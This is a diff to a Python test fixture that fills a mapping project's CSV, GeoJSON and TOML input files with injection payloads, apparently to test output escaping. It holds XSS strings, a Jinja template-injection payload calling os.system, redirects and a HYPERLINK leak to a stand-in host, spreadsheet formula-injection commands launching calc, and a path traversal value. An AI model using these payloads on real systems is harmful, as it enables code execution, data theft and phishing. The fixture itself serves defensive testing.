@@ -13,7 +13,7 @@ from cities import PROJECT, SOUTH, WEST, feature, geojson, square, write_city
 
 RAN = "python-ran-a-payload"
 JS = "window.sozialraumRan=1"
-JINJA = "{{ cycler.__init__.__globals__.os.system('touch %s') }}" % RAN
+JINJA = "{{ cycler.__init__.__globals__.os.system('touch " + RAN + "') }}"
 
 PAYLOADS = (
     f"<script>{JS}</script>",
@@ -36,9 +36,10 @@ PAYLOADS = (
     f"<!--><img src=x onerror={JS}>--> ]]>",
     '<base href="https://boese.example/"><meta http-equiv="refresh" content="0;url=https://boese.example/">',
     '<form action="https://boese.example/"><button>Weiter</button></form><iframe src="https://boese.example/">',
-    f"<a href=\"javascript:{JS}\">hier</a>",
+    f'<a href="javascript:{JS}">hier</a>',
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://boese.example/?x="&A1;"hier")',
+    "Haus;=cmd|' /C calc'!A0;\"=1+1\"",
     "+49+1",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -97,7 +98,7 @@ def area_names() -> dict[str, str]:
 
 
 def hostile_project() -> tuple[str, dict[str, list[str]]]:
-    """(projekt.toml, what stands in it by key): every text of the fixture city's is replaced by a payload of its own."""
+    """(projekt.toml, its texts by key): every text of the fixture city's is replaced by a payload of its own."""
     used: dict[str, list[str]] = {}
     count = 0
 
@@ -140,38 +141,38 @@ def hostile_files() -> dict[str, str | bytes]:
         feature({"nr": f"{payload} s", "name": payload}, {"type": "Point", "coordinates": [WEST + 99, SOUTH + 99]})
         for payload in PAYLOADS[:6]
     ]
-    people = [["KEY", "KENNZAHL", "STICHTAG", "SEX", "WERT"]]
-    shares = [["STADTTEIL", "KENNZAHL", "JAHR", "QUOTE", "ZAEHLER", "NENNER", "STATUS", "WORT"]]
-    houses = [["NR", "NAME", "TRAEGER", "RECHTS", "HOCH", "KEY", "STATUS", "AB"]]
-    places = [["NR", "GRUPPE", "KITAJAHR", "PLAETZE", "STUNDEN", "WORT"]]
-    centres = [["NR", "SEIT", "VERBUND"]]
+    people: list[list[object]] = [["KEY", "KENNZAHL", "STICHTAG", "SEX", "WERT"]]
+    shares: list[list[object]] = [["STADTTEIL", "KENNZAHL", "JAHR", "QUOTE", "ZAEHLER", "NENNER", "STATUS", "WORT"]]
+    houses: list[list[object]] = [["NR", "NAME", "TRAEGER", "RECHTS", "HOCH", "KEY", "STATUS", "AB"]]
+    places: list[list[object]] = [["NR", "GRUPPE", "KITAJAHR", "PLAETZE", "STUNDEN", "WORT"]]
+    centres: list[list[object]] = [["NR", "SEIT", "VERBUND"]]
     for number, (id_, name) in enumerate(names.items()):
         word = PAYLOADS[number % len(PAYLOADS)]
-        people.append([id_, "Einwohner", "31.12.2023", "insgesamt", 1000 + number])  # type: ignore[list-item]
-        people.append([id_, "Kinder u3", "31.12.2023", "insgesamt", 40 + number])  # type: ignore[list-item]
-        for share in ("SGB II", "Alleinerziehende"):
-            shares.append([name, share, "2023", "", 20 + number, 200, "", f"{word} wert"])  # type: ignore[list-item]
+        people.append([id_, "Einwohner", "31.12.2023", "insgesamt", 1000 + number])
+        people.append([id_, "Kinder u3", "31.12.2023", "insgesamt", 40 + number])
+        rates = ("SGB II", "Alleinerziehende")
+        shares += [[name, rate, "2023", "", 20 + number, 200, "", f"{word} wert"] for rate in rates]
         east, north = corners[id_]
         x, y = WEST + 1000 * east + 500, SOUTH + 1000 * north + 500
         key = f"{id_} k"
-        houses.append([key, f"{word} Haus", f"{word} Träger", x, y, id_, "offen", ""])  # type: ignore[list-item]
-        places.append([key, "U3", "2023/24", 10, 45, f"{word} Platz"])  # type: ignore[list-item]
+        houses.append([key, f"{word} Haus", f"{word} Träger", x, y, id_, "offen", ""])
+        places.append([key, "U3", "2023/24", 10, 45, f"{word} Platz"])
         if number % 3 == 0:
             centres.append([key, "2019", f"{word} Verbund"])
     # one that stands outside, so that its name is quoted by a warning
-    houses.append([f"{JINJA} weg", f"{JINJA} außen", PAYLOADS[0], WEST - 9999, SOUTH, "", "offen", ""])  # type: ignore[list-item]
-    bezirke = [["KEY", "BEZIRK", "BEZIRK_NAME"]]
+    houses.append([f"{JINJA} weg", f"{JINJA} außen", PAYLOADS[0], WEST - 9999, SOUTH, "", "offen", ""])
+    bezirke: list[list[object]] = [["KEY", "BEZIRK", "BEZIRK_NAME"]]
     bezirke += [[id_, f"../{PAYLOADS[0]}", f"{PAYLOADS[5]} Bezirk"] for id_ in names]
     return {
         "boundaries/stadtteile.geojson": geojson(quarters),
-        "boundaries/bezirke.csv": table(bezirke),  # type: ignore[arg-type]
-        "indicators/bevoelkerung.csv": table(people),  # type: ignore[arg-type]
-        "indicators/anteile.csv": table(shares),  # type: ignore[arg-type]
+        "boundaries/bezirke.csv": table(bezirke),
+        "indicators/bevoelkerung.csv": table(people),
+        "indicators/anteile.csv": table(shares),
         "indicators/schulen.csv": table([["SCHULE", "SCHULJAHR", "STUFE"], [f"{PAYLOADS[0]} s", "2023/24", 4]]),
-        "facilities/kitas.csv": table(houses),  # type: ignore[arg-type]
+        "facilities/kitas.csv": table(houses),
         "facilities/schulen.geojson": geojson(points),
-        "facilities/plaetze.csv": table(places),  # type: ignore[arg-type]
-        "facilities/familienzentren.csv": table(centres),  # type: ignore[arg-type]
+        "facilities/plaetze.csv": table(places),
+        "facilities/familienzentren.csv": table(centres),
     }
 
 
